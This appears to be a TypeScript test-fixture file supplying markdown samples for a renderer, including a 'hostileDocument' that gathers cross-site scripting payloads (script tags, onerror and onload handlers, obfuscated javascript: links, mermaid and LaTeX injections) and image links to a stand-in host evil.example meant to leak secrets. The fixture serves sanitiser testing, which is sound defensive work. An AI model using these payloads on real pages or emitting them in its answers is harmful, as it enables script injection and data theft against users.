/** Documents for tests. */

/** Whose visible text has none of the marks `* _ \` | [ ] # $ ~` once it is rendered. */
export const ordinaryDocument = `# Boats and their sails

A **sloop** has *one* mast; a ***ketch*** has two. See [the guide](https://example.org/sails_(rig)) or <https://example.org/a>.

## What to bring

- A rope of **12 mm** and a \`reef knot\`
- Some tape
  - nested with *care*
  - and more

1. First, __look__ at the sky
2. Then ~~panic~~ wait

   with a second paragraph

3. Go

| Wind | Sail | Note |
|:-----|:----:|-----:|
| calm | full | **easy** |
| gale | none | \`stay\` home |

> Quoted **words** that go on
> over two lines

Text before a list:
- which begins at once
- with [links](https://example.org)

\`\`\`python
def sail(wind):
    return wind
\`\`\`

Then the end.

---

Inline $a+b$ and \\(c+d\\) stay in the line.

$$
x = y
$$

And **a bold part
over lines** too. Twice \`\`code\`\`.
`;

/** What models of other languages write, and CommonMark does not know. The same marks are never visible in it. */
export const worldDocument = `##标题

**该星号不会被识别。**这是**“模式”**。**ไทย (Thai)**เป็น and **Note:**text.

H<sub>2</sub>O, H~2~O, m^2^, <kbd>Ctrl</kbd> and <b>bold *and* more</b> end<br>here, a word[^1] too.

| 説明 | 手順 |
|---|---|
| a | 手順1<br>手順2 |

<details>
<summary>More **about** it</summary>

- one
- two

</details>

$$
1 = 1 \\\\

2 = 2
$$

\\begin{align}
a &= b \\\\
c &= d
\\end{align}

So \\begin{pmatrix}1\\\\2\\end{pmatrix} it is.

\`\`\`markdown
# Inside

\`\`\`js
run()
\`\`\`

Then:

\`\`\`
npm i
\`\`\`
\`\`\`

See www.example.org/a or alice@example.org.

[^1]: The *note*
    goes on
[^2]: Another
`;

/** Everything a hostile model may try. */
export const hostileDocument = `<script>window.hacked = 1</script>
<img src=x onerror="window.hacked = 2">
<svg onload="window.hacked = 3"><style>@import 'https://evil.example/x.css';</style></svg>
<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name="a"></form>

[click](javascript:window.hacked=4) [data](data:text/html,<script>window.hacked=5</script>) [vb](vbscript:x)
[tab](java\tscript:alert(1)) [entity](javascript&#58;alert(1)) [case](JaVaScRiPt:alert(1)) [path](/sign-out) [rel](//evil.example/x)
<javascript:alert(1)> [quote](https://example.org/" onmouseover="window.hacked=6)

![leak](https://evil.example/leak.png?secret=1) ![x](//evil.example/a.png) ![svg](data:image/svg+xml;base64,PHN2Zy8+)
![ref][image]

[image]: https://evil.example/reference.png "title"
[named]: javascript:alert(1)

[named] and [a][named]

![alt <img src=x onerror=alert(1)>](x" onerror="alert(1))

\`\`\`html" onload="alert(1)
<script>window.hacked = 7</script>
\`\`\`

\`\`\`mermaid
%%{init: {"securityLevel": "loose", "themeCSS": "* { background: url(https://evil.example/m.png) }"}}%%
graph TD; A["<img src=x onerror=alert(1)>"]-->B; click A href "javascript:alert(1)"
\`\`\`

$$\\href{javascript:alert(1)}{x} \\includegraphics{https://evil.example/k.png} \\htmlClass{evil}{y} \\url{javascript:alert(1)}$$

| <b onclick=alert(1)>a</b> | ![t](https://evil.example/t.png) |
|---|---|
| [x](javascript:alert(1)) | <style>*{display:none}</style> |

\u202Eesrever\u202C and zero\u200Bwidth\u2066x

<a href="javascript:alert(1)" style="position:fixed;inset:0" id="app" class="evil">over everything</a>
<https://example.org/<script>alert(1)</script>>
<details open ontoggle=alert(1)><summary>x</summary></details>
<math><mtext></mtext><style><img src=x onerror=alert(1)></style></math>
<b><sub><kbd onclick=alert(1)>x</kbd></sub></b><br onload=alert(1)><sup><img src=x></sup>

<details><summary><img src=x onerror=alert(1)></summary><script>alert(1)</script>

[^1]: <style>x</style> [a](javascript:alert(1))
[^"onclick="alert(1)]: x

text[^1][^"onclick="alert(1)]

</details>
`;

/** About 14,000 characters, as a long answer of a model. */
export const longDocument = Array.from({ length: 18 }, (_, index) =>
  ordinaryDocument.replace('Boats', `Part ${index + 1}: boats`),
).join('\n\n');
